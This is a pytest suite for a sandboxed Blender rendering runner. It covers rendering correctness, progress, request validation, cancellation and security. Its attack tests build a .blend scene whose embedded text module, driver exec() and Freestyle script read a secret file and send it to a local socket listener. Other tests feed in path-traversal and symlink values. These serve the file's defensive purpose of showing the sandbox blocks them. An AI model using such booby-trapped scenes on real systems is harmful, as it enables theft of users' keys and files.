"""`blender_rendering` with the real Blender, in the real sandbox, on scenes that Blender made for the test."""

from __future__ import annotations

import dataclasses
import gzip
import json
import shutil
import socket
import subprocess
import threading
import time
from decimal import Decimal
from pathlib import Path

import psutil
import pytest
from PIL import Image, ImageChops
from pydantic import ValidationError

from runners.api import Cancelled, Device, Fail, Retry
from runners.blender import BlenderRunner
from runners.blender.process import _program
from runners.blender.rendering import Rendering
from runners.blender.request import RenderRequest
from runners.host.protocol import Run
from runners.sandbox import Sandbox
from runners.sandbox.watch import Limits

URL = "https://example.com/scene.blend"
SMALL = {"engine": "cycles", "resolution_x": 64, "resolution_y": 36, "samples": 2}

MAKE_SCENES = """
import sys
import bpy

directory = sys.argv[-1]
scene = bpy.context.scene
scene.render.engine = "CYCLES"
scene.cycles.samples = 4
scene.cycles.use_denoising = False
scene.render.resolution_x, scene.render.resolution_y, scene.render.resolution_percentage = 128, 80, 50
scene.frame_current = 2
cube = bpy.data.objects["Cube"]
for frame, x in ((1, -2), (10, 2)):
    cube.location.x = x
    cube.keyframe_insert("location", frame=frame)
above = bpy.data.objects.new("Above", bpy.data.cameras.new("Above"))
above.location.z = 12
scene.collection.objects.link(above)
scene.timeline_markers.new("cut", frame=1).camera = bpy.data.objects["Camera"]
bpy.data.scenes.new("Unfilmed").render.engine = "CYCLES"
huge = bpy.data.scenes.new("Huge")
huge.render.engine = "CYCLES"
huge.render.resolution_x = huge.render.resolution_y = 20000
bpy.data.scenes.new("Flat").render.engine = "BLENDER_WORKBENCH"
layered = bpy.data.scenes.new("Layered")
layered.render.engine = "CYCLES"
layered.cycles.use_denoising = False
layered.cycles.tile_size = 64
layered.camera = above
for thing in (cube, above):
    layered.collection.objects.link(thing)
layered.view_layers.new("Second")
layered.use_nodes = True
nodes = layered.node_tree.nodes
writer = nodes.new("CompositorNodeOutputFile")
writer.base_path = "/output/"
layers = nodes.new("CompositorNodeRLayers")
layers.scene, layers.layer = layered, "Second"
layered.node_tree.links.new(layers.outputs[0], writer.inputs[0])
bpy.ops.wm.save_as_mainfile(filepath=f"{directory}/scene.blend")
bpy.ops.wm.save_as_mainfile(filepath=f"{directory}/packed.blend", compress=True)
"""


def blender(*arguments):
    """Plain Blender, outside of everything of ours."""
    command = ["blender", "-b", "--factory-startup", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=60)


@pytest.fixture(scope="session")
def scenes(tmp_path_factory):
    """A folder with `scene.blend`, whose cube moves from frame 1 to 10, and the same compressed."""
    directory = tmp_path_factory.mktemp("scenes")
    script = directory / "make.py"
    script.write_text(MAKE_SCENES)
    blender("--python-exit-code", 1, "-P", script, "--", directory)
    return directory


@pytest.fixture
def render(tools, device, make_context, scenes):
    """Renders with small settings unless told otherwise; returns the result and the context."""

    def run(file="scene.blend", timeout=60.0, checkpoints=None, small=SMALL, **fields):
        context = make_context({"blend_file_url": scenes / file}, timeout)
        for name, content in (checkpoints or {}).items():
            context.checkpoints[name] = context.resumed_from / name
            context.checkpoints[name].write_bytes(content)
        request = RenderRequest.model_validate({"blend_file_url": URL, **small, **fields})
        return BlenderRunner(tools, device).run(request, context), context

    return run


def refused(render, *arguments, **fields):
    with pytest.raises((Fail, Retry)) as caught:
        render(*arguments, **fields)
    return caught.value


def differ(one, other):
    """The part in which two pictures differ, or None."""
    with Image.open(one) as first, Image.open(other) as second:
        assert (first.size, first.mode) == (second.size, second.mode)
        return ImageChops.difference(first, second).getbbox(alpha_only=False)


def describe(path, entries="stream=codec_name,width,height,pix_fmt"):
    command = ["ffprobe", "-v", "error", "-show_entries", entries, "-of", "csv=p=0", str(path)]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=30).stdout.strip()


def test_the_picture_is_the_one_that_blender_itself_renders(render, scenes, tmp_path):
    """Pixel for pixel, in the words of the reference's example."""
    result, context = render(
        small={}, engine="cycles", resolution_x=192, resolution_y=108, samples=8, frame=4
    )
    (frame,) = result.results["frames"]
    assert (frame.name, frame.media_type, frame.extra) == ("frame_0004.png", "image/png", {"frame": 4})
    assert frame.path == context.output / "frame_0004.png"
    assert result.units == Decimal(192 * 108 * 8) / 1_000_000
    settings = (
        "import bpy; scene = bpy.context.scene; scene.cycles.samples = 8; scene.render.resolution_percentage = 100; "
        "scene.render.resolution_x, scene.render.resolution_y = 192, 108; scene.render.image_settings.color_mode = 'RGB'"
    )
    arguments = (
        "-E",
        "CYCLES",
        "-o",
        tmp_path / "plain_####",
        "-F",
        "PNG",
        "-f",
        "4",
        "--",
        "--cycles-device",
        "CPU",
    )
    blender(scenes / "scene.blend", "--python-expr", settings, *arguments)
    assert differ(frame.path, tmp_path / "plain_0004.png") is None
    blender(
        scenes / "scene.blend",
        "--python-expr",
        settings,
        *[word if word != "4" else "5" for word in arguments],
    )
    assert differ(frame.path, tmp_path / "plain_0005.png") is not None, "the comparison can tell frames apart"


def test_what_is_not_asked_for_stays_as_the_file_has_it(render):
    """Engine, size (half of 128x80), samples and the current frame."""
    result, _ = render("packed.blend", small={})
    (frame,) = result.results["frames"]
    assert frame.extra == {"frame": 2}
    assert describe(frame.path) == "png,64,40,rgb24"
    assert result.units == Decimal(64 * 40 * 4) / 1_000_000
    assert set(result.results) == {"frames"}


def test_frames_are_handed_over_as_they_finish_and_become_a_video(render):
    result, context = render(frames="1-3,5", resolution_x=65, resolution_y=37, video=True, fps=8)
    numbers = [frame.extra["frame"] for frame in result.results["frames"]]
    assert numbers == [1, 2, 3, 5]
    assert context.handed_over == result.results["frames"]
    assert result.units == Decimal(65 * 37 * 2 * 4) / 1_000_000
    video = result.results["video"]
    assert (video.name, video.media_type) == ("video.mp4", "video/mp4")
    assert describe(video.path, "stream=codec_name,width,height,r_frame_rate,nb_frames") == "h264,64,36,8/1,4"
    pictures = [Image.open(frame.path).tobytes() for frame in result.results["frames"]]
    assert len(set(pictures)) == 4
    assert sorted(path.name for path in context.output.iterdir()) == [
        "frame_0001.png", "frame_0002.png", "frame_0003.png", "frame_0005.png", "video.mp4",
    ]  # fmt: skip


def test_under_landlock_frames_and_video_are_the_same(tools, device, make_context, scenes):
    """Paths are the machine's there, for Blender and for what ffmpeg reads; a scene that fails names none of them."""
    landlock = dataclasses.replace(tools, sandbox="landlock")
    assert BlenderRunner.probe(landlock).available
    runner = BlenderRunner(landlock, device)
    context = make_context({"blend_file_url": scenes / "scene.blend"})
    request = RenderRequest(blend_file_url=URL, frames="1-2", video=True, fps=8, **SMALL)
    result = runner.run(request, context)
    assert [frame.name for frame in result.results["frames"]] == ["frame_0001.png", "frame_0002.png"]
    assert describe(result.results["video"].path, "stream=codec_name,nb_frames") == "h264,2"
    broken = context.work / "broken.blend"
    broken.write_bytes((scenes / "scene.blend").read_bytes()[:3000])
    with pytest.raises((Fail, Retry)) as caught:
        runner.run(request, make_context({"blend_file_url": broken}))
    assert str(context.work) not in str(caught.value)


def test_progress_rises_through_the_samples_of_all_frames(render):
    result, context = render(frames=[1, 2], samples=48, resolution_x=320, resolution_y=180)
    percents = [percent for percent, _ in context.reported]
    assert percents == sorted(percents)
    assert len(set(percents)) >= 5, "there are steps between the frames"
    assert percents[-1] == 99
    units = [units for _, units in context.reported]
    assert units == sorted(units)
    assert units[-1] == result.units


def test_progress_counts_each_layer_and_the_scene_writes_no_files_of_its_own(render):
    result, context = render(scene="Layered", frame=1, samples=16)
    percents = [round(percent, 1) for percent, _ in context.reported]
    assert percents == sorted(percents)
    assert 49.5 in percents, "one of two layers is half of the frame"
    assert len(result.results["frames"]) == 1
    assert list((context.work / "frames").iterdir()) == []


def test_progress_rises_through_the_tiles_of_a_large_picture(render):
    """Blender names the last sample of a tile once more after the next has begun."""
    _, context = render(scene="Layered", frame=1, samples=8, resolution_x=128, resolution_y=64)
    percents = [percent for percent, _ in context.reported]
    assert percents == sorted(percents)
    steps = [percent for percent in dict.fromkeys(percents) if percent > 0]
    assert steps[-1] == 99
    assert {24.75, 74.25} <= set(steps), "two tiles in each of two layers"
    assert min(steps) < 10, "the first sample of the first tile is not the whole tile"


@pytest.mark.parametrize(
    ("fields", "name", "described"),
    [
        ({"output_format": "jpeg", "quality": 40}, "frame_0001.jpg", "mjpeg,64,36,yuvj420p"),
        ({"output_format": "exr", "color_depth": 32}, "frame_0001.exr", "exr,64,36,gbrpf32le"),
        ({"color_depth": 16, "transparent": True}, "frame_0001.png", "png,64,36,rgba64be"),
    ],
)
def test_each_format_is_what_it_says(render, fields, name, described):
    result, _ = render(frame=1, **fields)
    (frame,) = result.results["frames"]
    assert frame.name == name
    assert describe(frame.path).split(":")[0].startswith(described)


def test_a_camera_is_chosen_by_its_name(render, scenes):
    """Also against a marker in the file that binds another camera, and in a file compressed as old versions did."""
    (scenes / "old.blend").write_bytes(gzip.compress((scenes / "scene.blend").read_bytes(), 1))
    usual, _ = render(frame=1)
    above, _ = render("old.blend", frame=1, camera="Above")
    assert differ(usual.results["frames"][0].path, above.results["frames"][0].path) is not None
    error = refused(render, frame=1, camera="Behind")
    assert (type(error), error.code) == (Fail, "INPUT_INVALID")
    assert "'Behind'" in str(error)
    assert "'Above', 'Camera'" in str(error)


def test_samples_and_seed_change_the_noise(render):
    few, _ = render(frame=1)
    same, _ = render(frame=1)
    seeded, _ = render(frame=1, seed=7)
    paths = [result.results["frames"][0].path for result in (few, same, seeded)]
    assert differ(paths[0], paths[1]) is None
    assert differ(paths[0], paths[2]) is not None


def test_a_job_goes_on_where_another_miner_stopped(render):
    """Frames that are intact are not rendered again; one that is damaged or has another size is."""
    whole, context = render(frames="1-5")
    content = {frame.name: frame.path.read_bytes() for frame in whole.results["frames"]}
    other, _ = render(frame=1, resolution_y=40)
    checkpoints = {
        "frame_0001.png": content["frame_0003.png"],
        "frame_0002.png": content["frame_0002.png"][:900] + content["frame_0002.png"][-12:],
        "frame_0003.png": other.results["frames"][0].path.read_bytes(),
        "frame_0004.png": b"",
    }
    resumed, context = render(frames="1-5", checkpoints=checkpoints)
    assert resumed.results["resumed_frames"] == [1]
    assert [file.extra["frame"] for file in context.handed_over] == [2, 3, 4, 5]
    after = {frame.name: frame.path for frame in resumed.results["frames"]}
    assert after["frame_0001.png"].read_bytes() == content["frame_0003.png"], "it was taken as it was"
    assert {path.parent for path in after.values()} == {context.output}, "what is signed is a copy"
    for before in whole.results["frames"][1:]:
        assert differ(before.path, after[before.name]) is None
    assert resumed.units == whole.units
    assert context.reported[-1] == (99, whole.units)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"scene": "Unfilmed"}, "no camera"),
        ({"scene": "Elsewhere"}, "it has 'Flat', 'Huge', 'Layered', 'Scene', 'Unfilmed'"),
        ({"scene": "Huge", "resolution_x": None, "resolution_y": None}, "set resolution_x"),
        ({"scene": "Unfilmed", "samples": None}, "no camera"),
        ({"scene": "Flat", "engine": None}, "ask for the engine"),
    ],
)
def test_a_scene_that_cannot_be_rendered_says_what_to_change(render, fields, words):
    error = refused(render, **fields)
    assert isinstance(error, Fail), error
    assert words in str(error)


@pytest.mark.parametrize("kind", ["text", "gzip", "cut"])
def test_what_is_no_scene_is_refused(render, scenes, kind):
    scene = (scenes / "scene.blend").read_bytes()
    content = {
        "text": b"these are only words\n",
        "gzip": gzip.compress(b"words"),
        "cut": scene[: len(scene) // 2],
    }
    (scenes / "bad.blend").write_bytes(content[kind])
    error = refused(render, "bad.blend")
    assert (type(error), error.code) == (Fail, "INPUT_INVALID")
    assert ("could not open" if kind == "cut" else "no .blend file") in str(error)
    assert "/input" not in str(error)


def test_a_file_for_a_newer_blender_goes_to_another_machine(render, scenes):
    (scenes / "newer.blend").write_bytes(b"BLENDER17-01v0999" + (scenes / "scene.blend").read_bytes()[17:])
    error = refused(render, "newer.blend")
    assert (type(error), error.code) == (Retry, "ENGINE_OUTDATED")


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"engine": "eevee"}, "ENGINE_UNAVAILABLE"),
        ({"device": "gpu"}, "GPU_UNAVAILABLE"),
        ({"denoise": True}, "DENOISER_UNAVAILABLE"),
    ],
)
def test_what_this_machine_lacks_another_may_have(render, tools, fields, code):
    if code == "DENOISER_UNAVAILABLE" and BlenderRunner.probe(tools).features["denoiser"]:
        pytest.skip("this Blender has a denoiser")
    error = refused(render, **fields)
    assert (type(error), error.code) == (Retry, code)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"frame": 1, "frames": "1-2"}, "not both"),
        ({"frames": "3-1"}, "backwards"),
        ({"frames": "1-1001"}, "more than 1000"),
        ({"frames": "1-600,700-1300"}, "at most 1000"),
        ({"frames": "a"}, "neither a frame nor a range"),
        ({"frames": []}, "at least 1"),
        ({"frames": [-1]}, "greater than or equal"),
        ({"video": True}, "several frames"),
        ({"frames": "1-2", "video": True, "output_format": "exr"}, "png or jpeg"),
        ({"fps": 24}, "without video"),
        ({"output_format": "jpeg", "color_depth": 16}, "8 does"),
        ({"output_format": "jpeg", "transparent": True}, "cannot be transparent"),
        ({"resolution_x": 16384, "resolution_y": 16384}, "pixels"),
        ({"samples": 0}, "greater than or equal"),
        ({"engine": "eevee", "device": "cpu"}, "only on a GPU"),
        ({"engine": "povray"}, "'cycles' or 'eevee'"),
        ({"python": "import os"}, "Extra"),
    ],
)  # fmt: skip
def test_a_request_that_does_not_fit_says_what_would(fields, words):
    with pytest.raises(ValidationError) as caught:
        RenderRequest.model_validate({"blend_file_url": URL, **fields})
    assert words in str(caught.value)


def test_frames_are_read_in_order_and_once():
    request = RenderRequest.model_validate({"blend_file_url": URL, "frames": "12, 9-11,10,1"})
    assert request.frames == (1, 9, 10, 11, 12)
    assert RenderRequest.model_validate(request.model_dump(mode="json")) == request
    assert RenderRequest.model_json_schema()["properties"]["frames"]["anyOf"][0] == {"type": "string"}


SLOW = {"engine": "cycles", "resolution_x": 512, "resolution_y": 512, "samples": 60_000}


def test_cancelling_ends_blender_at_once(tools, device, make_context, scenes):
    context = make_context({"blend_file_url": scenes / "scene.blend"})
    started = threading.Event()
    context.on_progress = lambda: context.reported[-1][0] > 0 and started.set()
    seen = []

    def cancel_once_it_renders():
        assert started.wait(50)
        seen.extend(psutil.Process().children(recursive=True))
        seen.append(time.monotonic())
        context.cancel()

    thread = threading.Thread(target=cancel_once_it_renders)
    thread.start()
    with pytest.raises(Cancelled):
        BlenderRunner(tools, device).run(RenderRequest(blend_file_url=URL, frame=1, **SLOW), context)
    *processes, cancelled_at = seen
    assert time.monotonic() - cancelled_at < 2
    thread.join(5)
    assert len(processes) >= 2
    assert psutil.wait_procs(processes, timeout=2)[1] == []


def test_a_job_over_its_time_ends(render):
    began = time.monotonic()
    error = refused(render, timeout=4, frame=1, small=SLOW)
    assert (type(error), error.code) == (Fail, "TIMEOUT")
    assert time.monotonic() - began < 20


def test_frames_over_the_limit_of_space_are_refused(tools, device, make_context, scenes):
    small = dataclasses.replace(tools, max_output=4_000)
    context = make_context({"blend_file_url": scenes / "scene.blend"})
    with pytest.raises(Fail) as caught:
        BlenderRunner(small, device).run(RenderRequest(blend_file_url=URL, frames="1-4", **SMALL), context)
    assert caught.value.code == "OUTPUT_TOO_LARGE"


# Attacks

ATTACK = """
import pathlib, socket
try:
    pathlib.Path("/output/{name}").write_text("ran")
except OSError:
    pass
secret = pathlib.Path({secret!r}).read_text()
pathlib.Path({directory!r}, {name!r}).write_text(secret)
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(secret.encode())
"""

MAKE_ATTACK = """
import json, sys
import bpy

job = json.loads(sys.argv[-1])
scene = bpy.context.scene
scene.render.engine = "CYCLES"
scene.cycles.samples = 1
scene.cycles.use_denoising = False
scene.render.resolution_x = scene.render.resolution_y = 32
text = bpy.data.texts.new("register.py")
text.write(job["text"])
text.use_module = True
bpy.data.texts.new("driver").write(job["driver"])  # an expression has at most 255 characters
driver = bpy.data.objects["Cube"].driver_add("location", 0).driver
driver.expression = "0 if exec(bpy.data.texts['driver'].as_string()) else 1"
style = bpy.data.texts.new("style.py")
style.write(job["style"])
scene.render.use_freestyle = True
settings = scene.view_layers[0].freestyle_settings
settings.mode = "SCRIPT"
settings.modules.new().script = style
scene.use_nodes = True
node = scene.node_tree.nodes.new("CompositorNodeOutputFile")
node.base_path = job["node"]
scene.node_tree.links.new(scene.node_tree.nodes["Render Layers"].outputs[0], node.inputs[0])
image = bpy.data.images.load(job["image"])
material = bpy.data.materials["Material"]
texture = material.node_tree.nodes.new("ShaderNodeTexImage")
texture.image = image
bpy.ops.wm.save_as_mainfile(filepath=job["target"], relative_remap=False)
"""


@pytest.fixture
def attack(tmp_path):
    """A scene that attacks in every way that we know, where it would leave its traces, and a listener that it calls."""
    directory, secret = tmp_path / "traces", tmp_path / "secret.txt"
    directory.mkdir()
    secret.write_text("the miner's key")
    Image.new("RGB", (8, 8), "red").save(tmp_path / "private.png")
    with socket.create_server(("127.0.0.1", 0), backlog=16) as server:
        server.setblocking(False)
        values = {"secret": str(secret), "directory": str(directory), "port": server.getsockname()[1]}
        job = {
            "text": ATTACK.format(name="text", **values) + "def register(): pass\n",
            "driver": ATTACK.format(name="driver", **values),
            "style": ATTACK.format(name="style", **values),
            "node": str(directory / "node"),
            "image": str(tmp_path / "private.png"),
            "target": str(tmp_path / "attack.blend"),
        }
        script = tmp_path / "make_attack.py"
        script.write_text(MAKE_ATTACK)
        blender("--python-exit-code", 1, "-P", script, "--", json.dumps(job))
        shutil.rmtree(directory)
        directory.mkdir()
        _calls(server)
        yield Path(job["target"]), directory, server


def _calls(server):
    """How often the listener was called since it was last asked."""
    count = 0
    while True:
        try:
            server.accept()[0].close()
        except BlockingIOError:
            return count
        count += 1


def test_attack_python_in_a_scene_does_not_run(attack, tools, device, make_context, tmp_path):
    """Outside, the scene's text, driver and style read a file, write one and call a listener; here nothing happens.

    The style runs even where Blender was told to run no scripts.
    """
    file, traces, server = attack
    arguments = ("-o", tmp_path / "plain_####", "-f", "1", "--", "--cycles-device", "CPU")
    blender("-y", file, *arguments)
    assert {path.name for path in traces.iterdir()} == {"text", "driver", "style", "node"}
    assert (traces / "text").read_text() == "the miner's key"
    assert _calls(server) >= 3
    shutil.rmtree(traces)
    traces.mkdir()
    blender("--disable-autoexec", file, *arguments)
    assert {path.name for path in traces.iterdir()} == {"style", "node"}
    shutil.rmtree(traces)
    traces.mkdir()
    _calls(server)

    context = make_context({"blend_file_url": file})
    result = BlenderRunner(tools, device).run(RenderRequest(blend_file_url=URL, frame=1), context)
    assert list(traces.iterdir()) == []
    assert _calls(server) == 0
    assert [path.name for path in context.output.iterdir()] == ["frame_0001.png"]
    assert list((context.work / "frames").iterdir()) == [], "nothing ran inside the sandbox either"
    assert len(result.results["frames"]) == 1
    warnings = " ".join(result.results["warnings"])
    assert "private.png" in warnings
    assert "is not run" in warnings
    assert str(tmp_path) not in warnings


def test_attack_python_that_runs_in_blender_all_the_same_finds_nothing(attack, tools, tmp_path):
    """The second wall: with scripts switched on in the sandbox, the attack runs and reaches nothing."""
    file, traces, server = attack
    limits = Limits(memory=4 * 2**30, output=2**30, seconds=30, cpu_seconds=60)
    sandbox = Sandbox(tools, limits)
    output = tmp_path / "inside"
    output.mkdir()
    sandbox.write(output, "/output")
    program = _program(sandbox)
    scene = sandbox.read(file, "/scene.blend")
    sandbox.run([program, "-b", "--factory-startup", "-y", scene, "-o", "/output/frame_####", "-f", "1"])
    assert {"text", "driver", "style"} <= {path.name for path in output.iterdir()}, "it did run"
    assert list(traces.iterdir()) == []
    assert _calls(server) == 0


SCENE = {"frames": [1, 2], "width": 8, "height": 8, "samples": 1, "layers": 1, "fps": 24, "warnings": []}


@pytest.mark.parametrize(
    ("told", "planted"),
    [
        ({"saved": "../../../secret"}, None),
        ({"saved": 3}, "file"),
        ({"saved": 1}, "link"),
        ({"saved": 1}, "folder"),
        ({"saved": 1}, None),
        ({"reused": 1}, "file"),
        ({"scene": {**SCENE, "frames": [7]}}, None),
        ({"scene": {**SCENE, "width": -8}}, None),
        ([], None),
    ],
)
def test_attack_a_blender_that_was_taken_over_gets_no_other_file_out(make_context, tmp_path, told, planted):
    """Whatever it says: only a regular file that it wrote is taken, under the name of a frame that was asked for."""
    (tmp_path / "secret").write_text("the miner's key")
    context = make_context()
    rendering = Rendering(RenderRequest(blend_file_url=URL, frames="1-2"), context, 10**6)
    rendering.scratch.mkdir()
    place = rendering.scratch / "1"
    if planted == "link":
        place.symlink_to(tmp_path / "secret")
    elif planted == "folder":
        place.mkdir()
    elif planted == "file":
        for name in ("1", "3"):
            (rendering.scratch / name).write_text("frame")
    if "scene" not in told:
        rendering.on_message(json.dumps({"scene": SCENE}))
    with pytest.raises(Fail) as caught:
        rendering.on_message(json.dumps(told))
    assert caught.value.code == "RENDER_FAILED"
    assert context.handed_over == []
    assert (tmp_path / "secret").read_text() == "the miner's key"


def test_of_an_installation_in_a_home_only_blender_is_seen(tools, tmp_path):
    """Blender's own archive keeps the program beside its folders, and an owner may have unpacked it anywhere."""
    home = tmp_path / "home"
    for name in ("4.5/scripts", "lib", "photos", "2024.08"):
        (home / name).mkdir(parents=True)
    (home / "blender").write_text("#!/bin/sh\nls -A ${0%/*}")
    (home / "blender").chmod(0o755)
    (home / "key").write_text("private")
    unpacked = dataclasses.replace(tools, blender=str(home / "blender"))
    lines = []
    sandbox = Sandbox(unpacked, Limits(memory=2**30, output=2**20, seconds=10, cpu_seconds=10))
    sandbox.run([_program(sandbox)], on_line=lines.append)
    assert sorted(lines) == ["4.5", "blender", "lib"]


# What a miner sees


def test_probe_says_what_this_blender_can_do(tools):
    began = time.monotonic()
    probe = BlenderRunner.probe(tools)
    assert probe.available, probe.reasons
    assert time.monotonic() - began < 20
    assert probe.version.count(".") == 2
    assert probe.features["devices"][-1] == "CPU"
    assert "cycles" in probe.features["engines"]
    began = time.monotonic()
    assert BlenderRunner.probe(tools) == probe
    assert time.monotonic() - began < 0.5, "Blender is asked once"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"blender": "/nonexistent/blender"}, "set runners.blender"),
        ({"blender": "/bin/true"}, "not a Blender"),
        ({"sandbox": "bubblewrap", "bubblewrap": "/nonexistent/bwrap"}, "install bubblewrap"),
        ({"sandbox": "off"}, "runners.sandbox"),
    ],
)
def test_probe_says_what_to_do(tools, change, words):
    probe = BlenderRunner.probe(dataclasses.replace(tools, **change))
    assert not probe.available
    assert words in probe.reasons[0]


def test_without_the_sandbox_no_scene_is_opened(tools, device, make_context, scenes):
    """Not even if a job arrives in spite of the probe."""
    context = make_context({"blend_file_url": scenes / "scene.blend"})
    with pytest.raises(Retry) as caught:
        BlenderRunner(dataclasses.replace(tools, sandbox="off"), device).run(
            RenderRequest(blend_file_url=URL, **SMALL), context
        )
    assert caught.value.code == "SANDBOX_UNAVAILABLE"


def test_a_gpu_that_this_build_cannot_use_falls_back_to_the_processor(tools, make_context, scenes):
    gpu = Device("cuda", "a card", "GPU-00000000-0000-0000-0000-000000000000", 2)
    context = make_context({"blend_file_url": scenes / "scene.blend"})
    result = BlenderRunner(tools, gpu).run(RenderRequest(blend_file_url=URL, frame=1, **SMALL), context)
    assert len(result.results["frames"]) == 1


def test_the_benchmark_is_a_request_that_runs(tools, device, make_context, tmp_path):
    benchmark = BlenderRunner.benchmark(tools, tmp_path)
    assert benchmark.metric == "megapixel-sample/s"
    request = RenderRequest.model_validate({**benchmark.parameters, "samples": 1})
    result = BlenderRunner(tools, device).run(request, make_context(benchmark.files))
    assert result.units == Decimal(960 * 540) / 1_000_000


def test_through_the_child_process(start_child, tools, device, scenes, tmp_path):
    """What the miner does; a finished frame arrives before the results."""
    output, work = tmp_path / "output", tmp_path / "work"
    output.mkdir()
    work.mkdir()
    child = start_child("blender_rendering")
    assert child.configure(tools, device).runner.name == "blender"
    parameters = RenderRequest(blend_file_url=URL, frame=3, **SMALL).model_dump(mode="json")
    files = {"blend_file_url": scenes / "scene.blend"}
    child.send(
        Run(run_id="r", parameters=parameters, files=files, output=output, work=work, timeout_seconds=60)
    )
    handed = child.until("checkpoint", "error", "done")
    assert handed.type == "checkpoint", handed
    assert (handed.file.path, handed.file.extra) == ("frame_0003.png", {"frame": 3})
    done = child.until("done", "error")
    assert done.type == "done", done
    assert done.results["frames"][0]["$file"]["path"] == "frame_0003.png"
    assert done.results["units"] == float(done.units) == pytest.approx(0.004608)


@pytest.mark.gpu
def test_a_gpu_renders_with_both_engines(tools, make_context, scenes):
    """Needs Blender's own build in `runners.blender` and an NVIDIA card."""
    probe = BlenderRunner.probe(tools)
    if not {"OPTIX", "CUDA"} & set(probe.features.get("devices", ())):
        pytest.skip(f"no GPU that this Blender can use: {probe.reasons}")
    runner = BlenderRunner(tools, Device("cuda", "any", threads=2))
    for engine in probe.features["engines"]:
        context = make_context({"blend_file_url": scenes / "scene.blend"})
        fields = {**SMALL, "engine": engine, "device": "gpu"}
        result = runner.run(RenderRequest.model_validate({"blend_file_url": URL, **fields}), context)
        assert describe(result.results["frames"][0].path) == "png,64,36,rgb24"
